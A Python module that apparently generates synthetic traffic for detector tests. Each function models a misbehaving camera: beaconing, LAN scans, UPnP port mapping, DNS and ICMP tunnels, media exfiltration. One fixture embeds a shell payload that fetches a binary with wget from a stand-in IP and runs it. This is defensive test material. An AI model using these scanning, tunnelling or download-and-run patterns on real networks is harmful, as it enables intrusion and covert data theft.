"""Cameras that each do one thing they should not."""
import base64
import ipaddress
import struct

from zoo_habits import LITERAL, UNDECLARED, USUAL, WINDOW, animal, every, now_and_then
from zoo_wire import checksum


def picture(w, size=9000):
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + w.random.randbytes(size) + b"\xff\xd9"


def nal_stream(w, pictures):
    return b"".join(b"\0\0\0\1\x67\x42\x00\x1e" + w.random.randbytes(12) + b"\0\0\0\1\x68\xce\x3c\x80" + b"\0\0\0\1\x65" + w.random.randbytes(3000).replace(b"\0\0", b"\1\1") for _ in range(pictures))


# Dishonest: whom it talks to


@animal(UNDECLARED)
def other_name(w):
    peer = w.address()
    for moment in now_and_then(w, 4):
        w.tls(w.dns(moment, f"api.{w.other}", [peer]), peer, name=f"api.{w.other}")


@animal(LITERAL, also=USUAL)
def literal_tcp(w):
    peer = w.address()
    for moment in now_and_then(w, 3):
        w.tcp(moment, peer, w.random.choice((9443, 7547, 4433)), [w.random.randbytes(60), (b"ok",)])


@animal(LITERAL, also=USUAL)
def literal_udp(w):
    peer = w.address()
    for moment in now_and_then(w, 4):
        w.udp(moment, peer, w.port(), w.random.randbytes(80))


@animal(LITERAL, also=USUAL)
def literal_over_six(w):
    peer = w.address6()
    for moment in now_and_then(w, 3):
        w.tcp(moment, peer, 8443, [w.random.randbytes(90)])


@animal(LITERAL, also=USUAL)
def literal_that_never_answers(w):
    peer = w.address()
    for moment in now_and_then(w, 5):
        w.tcp(moment, peer, 443, answered=False)


@animal("resolver-discipline", also=USUAL)
def own_resolver(w):
    peer = w.address()
    for moment in now_and_then(w, 4):
        w.tls(w.dns(moment, f"report.{w.domain}", [w.cloud], resolver=ipaddress.ip_address(w.random.choice(("8.8.8.8", "114.114.114.114", "223.5.5.5", "9.9.9.9")))), w.cloud, name=f"report.{w.domain}")


@animal("resolver-discipline", also=USUAL)
def resolver_inside_tls(w):
    for moment in now_and_then(w, 4):
        w.tls(moment, ipaddress.ip_address(w.random.choice(("1.1.1.1", "8.8.4.4", "9.9.9.9"))), port=853)


@animal(UNDECLARED, "resolver-discipline", also=USUAL)
def resolver_inside_https(w):
    peer = w.address()
    for moment in now_and_then(w, 4):
        name = w.random.choice(("cloudflare-dns.com", "dns.google", "doh.pub"))
        w.tls(w.dns(moment, name, [peer]), peer, name=name)


@animal(UNDECLARED, also=USUAL)
def name_that_never_resolves(w):
    for moment in every(w, 60):
        w.dns(moment, f"c2.{w.other}", [], kind=1)
    peer = w.address()
    w.tcp(w.dns(WINDOW / 3, f"next.{w.other}", [peer]), peer, 443, answered="refused")


@animal("no-beaconing", also=USUAL)
def heartbeat(w):
    peer = w.address()
    for moment in every(w, w.random.choice((20, 30, 45))):
        w.tls(w.dns(moment, f"hb.{w.other}", [peer]), peer, name=f"hb.{w.other}", sent=120)


@animal("no-beaconing", also=USUAL)
def heartbeat_nobody_hears(w):
    peer = w.address()
    for moment in every(w, w.random.choice((25, 40)), 0.1):
        w.udp(moment, peer, 32100, w.random.randbytes(24))


@animal("declared-protocols", also=USUAL)
def something_else_on_its_own_port(w):
    for moment in now_and_then(w, 4):
        w.tcp(w.dns(moment, f"report.{w.domain}", [w.cloud]), w.cloud, 443, [b"\x01\x10\x00\x00" + w.random.randbytes(90), (w.random.randbytes(30),)])


@animal("declared-protocols", also=USUAL)
def clear_text_on_its_own_port(w):
    for moment in now_and_then(w, 4):
        w.http(w.dns(moment, f"report.{w.domain}", [w.cloud]), w.cloud, f"report.{w.domain}", "/status", "POST", b"state=fine", port=443)


@animal("no-rendezvous", also=USUAL)
def rendezvous_of_pppp(w):
    for moment in now_and_then(w, 3):
        peer = w.address()
        port = w.udp(moment, peer, 32100, b"\xf1\x00\x00\x00", b"\xf1\x01\x00\x10" + bytes(16))
        w.udp(moment + 0.5, peer, 32100, b"\xf1\x10\x00\x28" + w.random.randbytes(40), b"\xf1\x11\x00\x04" + bytes(4), port)
        w.udp(moment + 5, peer, 32100, b"\xf1\xe0\x00\x00", b"\xf1\xe1\x00\x00", port)


@animal("no-rendezvous", also=USUAL)
def rendezvous_of_dhget(w):
    peer = w.address()
    for moment in now_and_then(w, 3):
        serial = w.random.randbytes(7).hex().upper()
        w.udp(w.dns(moment, f"p2p.{w.other}", [peer]), peer, 8800, f"DHGET /online/p2psrv/{serial} HTTP/1.1\r\nCSeq: 1\r\n\r\n".encode(), b"HTTP/1.1 401 Unauthorized\r\nDate: x\r\n\r\n")


@animal("no-rendezvous", also=USUAL)
def rendezvous_by_stun(w):
    peer = w.address()
    for moment in now_and_then(w, 4):
        w.udp(w.dns(moment, f"stun.{w.other}", [peer]), peer, 3478, b"\0\1\0\0\x21\x12\xa4\x42" + w.random.randbytes(12), b"\1\1\0\x0c\x21\x12\xa4\x42" + bytes(24))


@animal("no-port-mapping")
def door_by_upnp(w):
    body = (b'<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1">'
            b"<NewExternalPort>8080</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>80</NewInternalPort></u:AddPortMapping></s:Body></s:Envelope>")
    w.http(now_and_then(w, 1)[0], w.router, str(w.router), "/ctl/IPConn", "POST", body, port=5000,
           headers='SOAPAction: "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"\r\nContent-Type: text/xml\r\n')


@animal("no-port-mapping")
def door_by_nat_pmp(w):
    for moment in now_and_then(w, 2):
        w.udp(moment, w.router, 5351, struct.pack(">BBHHHI", 0, 2, 0, 554, 10554, 7200), struct.pack(">BBHIHHI", 0, 130, 0, 1000, 554, 10554, 7200))


@animal("no-lan-scan")
def looks_for_neighbours(w):
    begin = now_and_then(w, 1)[0]
    for host in range(1, 120):
        target = ipaddress.ip_address(int(w.router) - 1 + host)
        if target not in (w.camera, w.router):
            w.arp(begin + host * w.random.uniform(0.05, 0.09), target)


@animal("no-lan-scan", also="only-declared-destinations")
def tries_the_neighbours_ports(w):
    begin = now_and_then(w, 1)[0]
    for number, port in enumerate(w.random.sample(range(20, 9000), 40)):
        w.tcp(begin + number * 0.3, w.router, port, answered="refused")


# Dishonest: what it sends and takes
@animal("no-covert-channels", also=USUAL)
def tunnel_in_names(w):
    for number, moment in enumerate(every(w, 2.5, 0.5)):
        label = base64.b32encode(w.random.randbytes(30)).decode().lower().rstrip("=")
        w.dns(moment, f"{label}.{number}.t.{w.other}", [], kind=16)


@animal("no-covert-channels", also=USUAL)
def tunnel_in_pings(w):
    peer = w.address()
    for number, moment in enumerate(every(w, 15, 0.3)):
        ping(w, moment, peer, number, w.random.randbytes(200))


def ping(w, moment, peer, number, content):
    for out, kind in ((True, 8), (False, 0)):
        body = struct.pack(">BBHHH", kind, 0, 0, 77, number) + content
        w.ip(moment + (0 if out else 0.02), out, peer, 1, body[:2] + struct.pack(">H", checksum(body)) + body[4:])


@animal("no-covert-channels", also=USUAL)
def tunnel_in_time(w):
    peer = w.address()
    for moment in every(w, 75, 0.3):
        w.ntp(w.dns(moment, f"time.{w.domain}", [peer]), peer, rest=w.random.randbytes(120))


@animal("no-covert-channels", also=USUAL)
def another_protocol(w):
    peer = w.address()
    for moment in now_and_then(w, 6):
        w.ip(moment, True, peer, w.random.choice((47, 94, 132, 253)), w.random.randbytes(60))


@animal("declared-volume")
def more_than_it_says(w):
    for moment in now_and_then(w, 3):
        w.tls(w.dns(moment, f"report.{w.domain}", [w.cloud]), w.cloud, name=f"report.{w.domain}", sent=600_000)


@animal("declared-volume")
def more_often_than_it_says(w):
    for moment in every(w, 6, 0.3):
        w.tls(w.dns(moment, f"report.{w.domain}", [w.cloud]), w.cloud, name=f"report.{w.domain}", sent=300)


@animal("no-media-leaving", also=USUAL)
def pictures_by_http(w):
    peer = w.address()
    for moment in now_and_then(w, 3):
        w.http(w.dns(moment, f"img.{w.other}", [peer]), peer, f"img.{w.other}", "/up", "POST", picture(w))


@animal("no-media-leaving", also=USUAL)
def video_by_rtp(w):
    peer, port, begin, source = w.address(), w.port() & ~1, now_and_then(w, 1)[0], w.random.randrange(2**32)
    own = w.port()
    for number in range(400):
        head = struct.pack(">BBHII", 0x80, 96 | (0x80 if number % 5 == 4 else 0), number, 3000 * (number // 5), source)
        w.udp(begin + number * 0.02, peer, port, head + (b"\x7c\x85" if number % 5 == 0 else b"\x7c\x05") + w.random.randbytes(1000), own_port=own)


@animal("no-media-leaving", also=USUAL)
def video_in_a_bare_stream(w):
    peer = w.address()
    w.tcp(w.dns(now_and_then(w, 1)[0], f"v.{w.other}", [peer]), peer, 8000, [b"HELO" + w.random.randbytes(12), nal_stream(w, 20)], pace=0.1)


@animal("no-media-leaving", also=USUAL)
def video_as_transport_stream(w):
    peer, begin, own = w.address(), now_and_then(w, 1)[0], w.port()
    for number in range(100):
        packets = b"".join(b"\x47\x41\x00" + bytes([0x10 | (number * 7 + i) % 16]) + w.random.randbytes(184) for i in range(7))
        w.udp(begin + number * 0.03, peer, 1234, packets, own_port=own)


@animal("no-media-leaving", also=USUAL + " keeps-identifiers")
def pictures_by_ftp(w):
    peer, begin = w.address(), now_and_then(w, 1)[0]
    begin = w.dns(begin, f"ftp.{w.other}", [peer])
    numbers = ",".join(str(peer.packed[i]) for i in range(4))
    w.tcp(begin, peer, 21, [("220 ready\r\n".encode(),), "USER a\r\n", (b"331 ok\r\n",), "PASS b\r\n", (b"230 ok\r\n",), "PASV\r\n", (f"227 Entering ({numbers},200,10)\r\n".encode(),), "STOR a.jpg\r\n", (b"150 ok\r\n",)], pace=0.05)
    w.tcp(begin + 1.5, peer, 200 * 256 + 10, [picture(w, 20000)])


@animal("no-code-arriving", also=USUAL)
def fetches_a_program(w):
    peer = w.address()
    for moment in now_and_then(w, 2):
        w.http(w.dns(moment, f"dl.{w.other}", [peer]), peer, f"dl.{w.other}", "/x", answer=b"\x7fELF\x01\x01\x01\0" + bytes(8) + struct.pack("<HHI", 2, 40, 1) + w.random.randbytes(20000))


@animal("no-code-arriving", also=USUAL)
def fetches_a_script(w):
    peer = w.address()
    w.http(w.dns(now_and_then(w, 1)[0], f"dl.{w.other}", [peer]), peer, f"dl.{w.other}", "/s", answer=b"#!/bin/sh\ncd /tmp && wget http://198.51.100.9/a -O a && chmod +x a && ./a\n")


@animal("keeps-identifiers", also=USUAL)
def tells_its_mac(w):
    peer = w.address()
    for moment in now_and_then(w, 2):
        w.http(w.dns(moment, f"t.{w.other}", [peer]), peer, f"t.{w.other}", f"/r?id={w.camera_mac.hex(w.random.choice(':-'))}")


@animal("keeps-identifiers", also=USUAL)
def tells_its_mac_in_base64(w):
    peer = w.address()
    text = base64.b64encode(f'{{"mac":"{w.camera_mac.hex(":")}","v":1}}'.encode()).decode()
    w.http(w.dns(now_and_then(w, 1)[0], f"t.{w.other}", [peer]), peer, f"t.{w.other}", "/r", "POST", f"d={text}".encode())


@animal("keeps-identifiers", also=USUAL)
def tells_a_password(w):
    peer = w.address()
    secret = base64.b64encode(b"admin:secret77").decode()
    w.http(w.dns(now_and_then(w, 1)[0], f"t.{w.other}", [peer]), peer, f"t.{w.other}", "/r", headers=f"Authorization: Basic {secret}\r\n")


@animal(UNDECLARED, also=USUAL)
def trickles(w):
    peer = w.address()
    w.tcp(w.dns(30, f"s.{w.other}", [peer]), peer, 443, [w.hello(f"s.{w.other}")] + [w.sealed(200) for _ in range(120)], pace=6)


@animal(UNDECLARED, also=USUAL)
def quic_elsewhere(w):
    peer = w.address()
    for moment in now_and_then(w, 3):
        w.udp(w.dns(moment, f"q.{w.other}", [peer]), peer, 443, b"\xc3\0\0\0\1\x08" + w.random.randbytes(1190))
